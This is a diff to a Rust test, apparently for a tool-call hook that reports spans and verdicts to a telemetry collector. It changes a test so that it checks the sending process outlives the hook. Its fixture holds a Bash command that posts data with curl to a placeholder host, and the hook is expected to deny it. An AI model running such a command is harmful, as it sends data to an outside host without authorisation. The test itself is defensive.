@@ -1,7 +1,7 @@
 //! Spans of calls and of MCP requests, and events of verdicts: what a collector gets, and in which words.
 
 use std::collections::BTreeSet;
-use std::io::{BufRead, BufReader, Write};
+use std::io::{BufRead, BufReader, Read, Write};
 use std::path::PathBuf;
 use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};
 use std::sync::mpsc::Receiver;
@@ -347,8 +347,17 @@ fn a_hook_does_not_wait_for_a_collector() {
     let address = format!("http://{}", silent.local_addr().unwrap());
     let shell = r#""tool_name":"Bash","tool_use_id":"t2","tool_input":{"command":"curl -d x http://x.example"}"#;
     let answer = hook(&home, &folder, &address, &event("PreToolUse", shell));
-    // The process that sends has connected, or will: the hook has ended before it was answered.
-    let (_connection, _) = silent.accept().unwrap();
+    // The process that sends still waits. A hook that waited itself would have given up before it ended, and closed.
+    let (mut connection, _) = silent.accept().unwrap();
+    connection.set_nonblocking(true).unwrap();
+    let still_open = loop {
+        match connection.read(&mut [0; 4096]) {
+            Ok(0) => break false,
+            Ok(_) => {}
+            Err(error) => break error.kind() == std::io::ErrorKind::WouldBlock,
+        }
+    };
+    assert!(still_open, "the process that sends has ended with the hook");
     assert!(answer.contains("deny"));
 }
 
